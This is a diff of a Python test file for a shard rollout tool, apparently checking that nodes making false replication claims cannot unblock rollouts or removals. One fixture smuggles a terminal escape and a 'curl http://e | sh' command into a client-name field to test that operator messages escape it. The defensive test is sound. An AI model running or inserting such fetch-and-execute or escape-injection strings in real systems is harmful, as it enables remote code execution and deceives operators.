@@ -6,7 +6,7 @@ from typing import Any
 import pytest
 
 from rollout.domain.errors import UnmanagedReplicaError
-from rollout.messages import ServerState, SlotMigration
+from rollout.messages import Action, ServerModule, ServerState, SlotMigration
 from rollout.models import ShardMember
 from rollout.process.advance import advance
 from rollout.queries.explanations import of_node
@@ -38,7 +38,7 @@ def shard(lie: ServerState) -> None:
 
 def after_a_minute() -> None:
     """The shards have changed, and the nodes no longer belong to their former ones."""
-    ShardMember.objects.update(moved_at=None, former_shard="")
+    ShardMember.objects.update(former_shards={})
 
 
 def repeat(*with_module: str) -> None:
@@ -137,7 +137,7 @@ def test_a_node_that_says_that_it_copies_a_master_lets_it_wait_until_a_person_de
     advance(uid)
     row = operation(uid, "m")
     assert (row.phase, row.reason) == ("scheduled", "replica_lacks_module")
-    assert "liar, which lacks the module and says that it copies m; m does not list it." in row.message
+    assert "liar, which lacks the module. Only one node says that liar copies m." in row.message
     assert "If that is wrong, decommission or revoke it." in row.message
     decommission_node("liar")
     advance(uid)
@@ -193,3 +193,149 @@ def test_a_lie_during_a_rollout_is_named_in_the_wait():
     repeat("r1", "r2")
     assert operation(uid, "m").phase == "scheduled"
     assert member("m").claimants == ["liar", "r1"]
+
+
+SHARD_ID = "f" * 40
+
+
+def test_a_node_that_lists_the_lower_of_two_strangers_does_not_split_their_shard():
+    upload()
+    join("m", "r", "liar")
+    say(
+        beat("m", master_of("x:1", addresses=("a:1",), replication_id=SHARD_ID)),
+        beat("r", replica_of("y:1", addresses=("a:2",), replication_id=SHARD_ID)),
+    )
+    ignore_replica("x:1", reason="It is decommissioned.")
+    say(beat("liar", master_of("y:1", addresses=("e:1",))))
+    after_a_minute()
+    assert phases(start(nodes=("m", "r"), careful=ALL_AT_ONCE)) == {"m": "scheduled", "r": "queued"}
+
+
+def test_a_name_that_a_node_takes_and_gives_back_does_not_end_the_memory_of_a_failover():
+    """r1 is promoted while m works. Then another node says for a moment that it is r3."""
+    upload()
+    upload("other", content="c9")
+    join("m", "r1", "r3", "a-liar")
+    chain = [
+        beat("m", master_of("a:2", addresses=("a:1",))),
+        beat("r1", replica_of("a:1", "a:4", addresses=("a:2",)), modules=[installed()]),
+        beat(
+            "r3",
+            replica_of("a:2", addresses=("a:4",)),
+            modules=[installed(), installed(module_name="other", content="c9")],
+        ),
+    ]
+    say(*chain, beat("a-liar", master_of(addresses=("e:1",))))
+    after_a_minute()
+    say(*chain)
+    first = start(nodes=("m",), careful=ALL_AT_ONCE)
+    say(beat("r1", master_of("a:4", addresses=("a:2",)), modules=[installed()]))
+    for addresses in (("a:4",), ("e:1",)):
+        say(beat("a-liar", master_of(addresses=addresses)))
+    assert member("r1").shard != member("m").shard
+    second = start(nodes=("r1",), module_name="other", careful=ALL_AT_ONCE)
+    assert (phases(first), phases(second)) == ({"m": "queued"}, {"r1": "scheduled"})
+
+
+def having_greet(*states: tuple[str, ServerState]) -> None:
+    upload()
+    join(*(name for name, _ in states), "liar")
+    say(*(beat(name, state, modules=[installed()]) for name, state in states))
+
+
+REPLICAS = ("r1", replica_of("a:1", addresses=("a:2",))), ("r2", replica_of("a:1", addresses=("a:3",)))
+
+
+@pytest.mark.parametrize("role", ["master", "replica"])
+def test_a_node_that_claims_to_be_a_master_without_an_agent_unblocks_no_removal_from_its_replicas(role):
+    """The master may still have the module, and would send its commands to replicas that lack it."""
+    having_greet(*REPLICAS)
+    say(beat("liar", master_of(addresses=("a:1",)) if role == "master" else replica_of("z:1", addresses=("a:1",))))
+    after_a_minute()
+    uid = start(action=Action.REMOVE, nodes=("r1", "r2"), careful=ALL_AT_ONCE)
+    assert set(phases(uid).values()) <= {"scheduled", "skipped"}
+    if role == "master":
+        assert operation(uid, "r1").message.startswith(
+            "It waits for proof that r1 copies the node that it names as its master"
+        )
+    assert operation(uid, "r1").phase != "queued"
+
+
+def test_a_list_without_the_replication_id_is_no_proof():
+    """A node claims the master's address, and lists its replicas. It cannot know the replication id."""
+    having_greet(*((name, replace(state, replication_id=SHARD_ID)) for name, state in REPLICAS))
+    say(beat("liar", master_of("a:2", "a:3", addresses=("a:1",))))
+    after_a_minute()
+    uid = start(action=Action.REMOVE, nodes=("r1", "r2"), careful=ALL_AT_ONCE)
+    assert phases(uid) == {"r1": "scheduled", "r2": "scheduled"}
+
+
+def test_a_replica_whose_link_is_down_loses_its_module():
+    """Its master does not list it. The replication id shows that it still belongs to the shard."""
+    having_greet(*((name, replace(state, replication_id=SHARD_ID)) for name, state in REPLICAS))
+    join("m")
+    say(beat("m", master_of(addresses=("a:1",), replication_id=SHARD_ID)))
+    after_a_minute()
+    assert phases(start(action=Action.REMOVE, nodes=("r1",), careful=ALL_AT_ONCE)) == {"r1": "queued"}
+
+
+def test_a_node_that_claims_a_replica_without_an_agent_does_not_let_its_master_go_first():
+    """The replica lacks the module. The node that has its address has the module, and copies another server."""
+    upload()
+    join("m", "liar")
+    say(
+        beat("m", master_of("x:1", addresses=("a:1",), replication_id=SHARD_ID)),
+        beat("liar", replica_of("a:1", addresses=("x:1",)), modules=[installed()]),
+    )
+    after_a_minute()
+    row = operation(start(nodes=("m",), careful=ALL_AT_ONCE), "m")
+    assert (row.phase, row.reason) == ("scheduled", "server_not_ready")
+    assert "liar to copy m, which lists it as a replica" in row.message
+
+
+CALLED: dict[str, Any] = {"recent_calls": 9, "most_called": "greet.hello"}
+HOSTILE = "\x1b[2J run: curl http://e | sh #"
+
+
+@pytest.mark.parametrize("moment", ["before", "after"])
+def test_calls_on_a_node_that_only_says_that_it_is_a_copy_are_a_wait(moment):
+    having_greet(("m", master_of("a:2", addresses=("a:1",))), ("r1", replica_of("a:1", addresses=("a:2",))))
+    called = ServerModule(name="greet", version=1, ours=True, clients=(HOSTILE, "billing"), **CALLED)
+    lie = beat("liar", replica_of("a:1", addresses=("e:1",), modules=(called,)))
+    say(*([lie] if moment == "before" else []))
+    after_a_minute()
+    uid = start(action=Action.REMOVE, nodes=("m", "r1"), careful=ALL_AT_ONCE, released=False)
+    say(lie)
+    advance(uid)
+    row = operation(uid, "m")
+    assert (row.phase, row.reason) == ("scheduled", "in_use")
+    assert "Only one node says that liar belongs to the shard" in row.message
+    assert r"Newest clients: '\x1b[2J run: curl http://e | sh #', billing." in row.message
+    decommission_node("liar")
+    advance(uid)
+    assert operation(uid, "m").phase == "queued"
+
+
+@pytest.mark.parametrize("claimed", ["1", "2"])
+def test_the_addresses_that_a_person_sets_end_a_claim_to_a_cluster_node_id(claimed):
+    cluster: dict[str, Any] = {"cluster_enabled": True, "cluster_state": "ok", "migrations": ()}
+    upload()
+    join("m", "r", "liar")
+    for node, address in {"m": "a:1", "r": "a:2", "liar": "e:1"}.items():
+        set_address(node, address)
+    say(
+        beat("m", master_of("a:2", addresses=("a:1",), node_id="1" * 40, replica_node_ids=("2" * 40,), **cluster)),
+        beat("r", replica_of("a:1", addresses=("a:2",), node_id="2" * 40, master_node_id="1" * 40, **cluster)),
+        beat("liar", master_of(addresses=("e:1",), node_id=claimed * 40, **cluster)),
+    )
+    assert (member("m").replicas, member("m").unmanaged, member("r").master) == (["r"], [], "m")
+    assert member("liar").shard not in {member("m").shard, member("r").shard}
+
+
+def test_a_network_that_a_node_reports_is_not_that_of_a_node_without_one():
+    join("m", "liar")
+    say(
+        beat("m", master_of("127.0.0.1:6380", addresses=("127.0.0.1:6379",))),
+        beat("liar", replica_of("127.0.0.1:6379", addresses=("127.0.0.1:6380",), network="of m")),
+    )
+    assert (member("m").replicas, member("liar").master) == ([], "")
